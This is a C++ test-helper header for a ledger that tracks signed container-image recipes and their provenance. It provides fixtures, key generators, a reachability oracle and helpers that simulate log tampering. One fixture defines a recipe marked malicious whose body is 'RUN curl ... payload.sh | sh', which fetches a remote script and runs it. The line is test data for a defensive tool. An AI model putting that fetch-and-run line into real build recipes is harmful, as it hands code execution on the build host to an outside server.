#pragma once

#include <spock/builder.hpp>
#include <spock/ledger.hpp>
#include <spock/provenance.hpp>
#include <spock/recipe.hpp>
#include <spock/revocation.hpp>
#include <spock/rungate.hpp>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <random>
#include <set>
#include <sstream>
#include <string>

namespace spock::test {

namespace fs = std::filesystem;

class TempDir {
public:
    TempDir() {
        auto tmpl = (fs::temp_directory_path() / "spock-test-XXXXXX").string();
        if (!::mkdtemp(tmpl.data())) throw std::runtime_error("mkdtemp failed");
        path_ = tmpl;
    }
    TempDir(const TempDir&) = delete;
    TempDir& operator=(const TempDir&) = delete;
    ~TempDir() {
        std::error_code ec;
        fs::remove_all(path_, ec);
    }
    const fs::path& path() const { return path_; }
    fs::path operator/(const std::string& p) const { return path_ / p; }

private:
    fs::path path_;
};

inline std::string slurp(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::ostringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

inline void spit(const fs::path& p, std::string_view data) {
    std::ofstream out(p, std::ios::binary | std::ios::trunc);
    out << data;
}

/// Deterministic key: the 32-byte seed is `n` repeated.
inline PrivateKey fixed_key(std::uint8_t n) { return PrivateKey(SignatureScheme::ed25519, Bytes(32, n)); }

inline constexpr const char* fixture_epoch = "20181001T120000Z";

/// A fresh ledger on a stepping clock with a mock engine and named signers.
struct Fixture {
    TempDir tmp;
    std::shared_ptr<SteppingClock> clock;
    Ledger ledger;
    MockEngine engine;
    std::map<std::string, PrivateKey> keys;

    explicit Fixture(std::string_view start = fixture_epoch, LedgerOptions extra = {})
        : clock(std::make_shared<SteppingClock>(parse_timestamp(start))),
          ledger(Ledger::init(tmp / "ledger", with_clock(std::move(extra), clock))) {}

    static LedgerOptions with_clock(LedgerOptions o, std::shared_ptr<Clock> c) {
        o.clock = std::move(c);
        return o;
    }

    const PrivateKey& trust(const std::string& id, std::uint8_t seed) {
        auto key = fixed_key(seed);
        add_entity(ledger, id, key.public_key());
        return keys.insert_or_assign(id, key).first->second;
    }

    RecipeRecord root(std::string_view text, const std::string& signer = "alice") {
        return register_root(ledger, text, signer, keys.at(signer));
    }

    RecipeRecord child(const ImageId& parent, std::string_view body, const std::string& signer = "alice") {
        return register_child(ledger, child_text(parent, body), signer, keys.at(signer));
    }

    ImageRecord build_image(const Digest& hash, const std::string& signer = "alice") {
        return spock::build(ledger, hash, engine, signer, keys.at(signer));
    }

    static std::string child_text(const ImageId& parent, std::string_view body) {
        return "FROM trusted:" + parent.str() + "\n" + std::string(body);
    }

    const LedgerState& state() const { return ledger.state(); }
};

/// Root 5 with descendants 3 and 4; 3 has children 1 and 2; 4 has child 6.
/// Node 1's ancestry is therefore 5 -> 3 -> 1.
struct FigTree {
    std::map<int, Digest> recipe;
    std::map<int, ImageId> image;

    explicit FigTree(Fixture& f) {
        auto add_root = [&](int n) {
            auto r = f.root("FROM registry.example.org/base:1\nLABEL node=" + std::to_string(n) + "\n");
            recipe.emplace(n, r.recipe_hash);
            image.emplace(n, f.build_image(r.recipe_hash).image_id);
        };
        auto add_child = [&](int n, int parent) {
            auto r = f.child(image.at(parent), "LABEL node=" + std::to_string(n) + "\n");
            recipe.emplace(n, r.recipe_hash);
            image.emplace(n, f.build_image(r.recipe_hash).image_id);
        };
        add_root(5);
        add_child(3, 5);
        add_child(4, 5);
        add_child(1, 3);
        add_child(2, 3);
        add_child(6, 4);
    }

    std::string label(int n) const { return std::string(recipe.at(n).prefix()); }
};


/// A root with two children, the first of which is malicious. The nonce was
/// brute-forced (tools/oracles.py) so the malicious recipe's hash starts with
/// "80b6e" when built by a fresh Fixture that trusts alice first.
struct QueryFixture {
    static constexpr const char* root_text = "FROM registry.example.org/base:1\nLABEL app=web\n";
    static constexpr unsigned nonce = 2720886;

    RecipeRecord root;
    ImageRecord root_image;
    RecipeRecord malicious;
    ImageRecord malicious_image;
    RecipeRecord benign;
    ImageRecord benign_image;

    static std::string malicious_text(const ImageId& parent) {
        return Fixture::child_text(parent, "RUN curl -s http://203.0.113.7/payload.sh | sh\nLABEL nonce=" +
                                               std::to_string(nonce) + "\n");
    }

    explicit QueryFixture(Fixture& f)
        : root(f.root(root_text)),
          root_image(f.build_image(root.recipe_hash)),
          malicious(register_child(f.ledger, malicious_text(root_image.image_id), "alice", f.keys.at("alice"))),
          malicious_image(f.build_image(malicious.recipe_hash)),
          benign(f.child(root_image.image_id, "RUN apk add nginx\n")),
          benign_image(f.build_image(benign.recipe_hash)) {}
};

/// Grows a random forest: roots and children signed by random entities, with
/// some images removed and rebuilt so recipes carry purged history.
inline void grow_random_forest(Fixture& f, std::mt19937_64& rng, int operations) {
    std::vector<std::string> signers;
    for (const auto& [id, k] : f.keys) signers.push_back(id);
    auto pick_signer = [&] { return signers[rng() % signers.size()]; };
    for (int i = 0; i < operations; ++i) {
        auto live = f.state().list_images(RecordStatus::live);
        auto label = "LABEL op=" + std::to_string(i) + "-" + std::to_string(rng() % 1000000) + "\n";
        auto roll = rng() % 10;
        if (live.empty() || roll < 2) {
            auto r = f.root("FROM base:" + std::to_string(rng() % 5) + "\n" + label, pick_signer());
            if (rng() % 4) f.build_image(r.recipe_hash, pick_signer());
        } else if (roll < 8) {
            const auto* parent = live[rng() % live.size()];
            auto r = f.child(parent->image_id, label, pick_signer());
            if (rng() % 5) f.build_image(r.recipe_hash, pick_signer());
        } else {
            // Invalidate and rebuild a leaf-ish image so a recipe has history.
            const auto* img = live[rng() % live.size()];
            auto hash = img->recipe_hash();
            remove(f.ledger, img->image_id, "rebuild");
            f.build_image(hash, pick_signer());
        }
    }
}

/// Independent reachability oracle over the raw records: recipe -> each of
/// its images, image -> each recipe whose FROM names it. Returns the live
/// members of everything reachable from `start`.
inline std::pair<std::set<Digest>, std::set<ImageId>> brute_force_closure(const LedgerState& st, const NodeRef& start) {
    std::set<Digest> recipes;
    std::set<ImageId> images;
    std::vector<NodeRef> stack{start};
    while (!stack.empty()) {
        auto node = stack.back();
        stack.pop_back();
        if (const auto* h = std::get_if<Digest>(&node)) {
            if (!recipes.insert(*h).second) continue;
            for (const auto& [id, img] : st.images)
                if (id.recipe_hash == *h) stack.push_back(id);
        } else {
            const auto& id = std::get<ImageId>(node);
            if (!images.insert(id).second) continue;
            for (const auto& [h, r] : st.recipes)
                if (r.parent_image_id == id) stack.push_back(h);
        }
    }
    std::erase_if(recipes, [&](const Digest& h) { return st.find_recipe(h)->status != RecordStatus::live; });
    std::erase_if(images, [&](const ImageId& i) { return st.find_image(i)->status != RecordStatus::live; });
    return {recipes, images};
}

/// Keys of every live record, for conservation checks.
inline std::set<std::string> live_keys(const LedgerState& st) {
    std::set<std::string> out;
    for (const auto& [h, r] : st.recipes)
        if (r.status == RecordStatus::live) out.insert(recipe_key(h));
    for (const auto& [i, img] : st.images)
        if (img.status == RecordStatus::live) out.insert(image_key(i));
    return out;
}

/// Rewrites the JSON payload of the first log line of `type` whose payload
/// satisfies `match`, keeping its stated digest. Simulates on-disk tampering.
template <class Match, class Mutate>
void tamper_record(const fs::path& log, std::string_view type, Match match, Mutate mutate) {
    auto text = slurp(log);
    std::string out;
    bool done = false;
    std::size_t pos = 0;
    while (pos < text.size()) {
        auto nl = text.find('\n', pos);
        std::string line = text.substr(pos, nl - pos);
        pos = nl + 1;
        auto s1 = line.find(' ');
        auto s2 = line.find(' ', s1 + 1);
        if (!done && line.substr(s1 + 1, s2 - s1 - 1) == type) {
            auto body = nlohmann::json::parse(line.substr(s2 + 1));
            if (match(body)) {
                mutate(body);
                line = line.substr(0, s2 + 1) + body.dump();
                done = true;
            }
        }
        out += line + "\n";
    }
    if (!done) throw std::runtime_error("tamper_record: no matching record");
    spit(log, out);
}

/// Flips one bit of the signature on the record of `type` whose `field`
/// equals `value`.
inline void flip_signature(const fs::path& log, std::string_view type, const char* field, const std::string& value) {
    tamper_record(log, type, [&](const nlohmann::json& j) { return j[field] == value; },
                  [](nlohmann::json& j) {
                      auto sig = Signature::from_text(j["signature"].get<std::string>(), "x");
                      sig.bytes[17] ^= 0x01;
                      j["signature"] = sig.to_text();
                  });
}

} // namespace spock::test
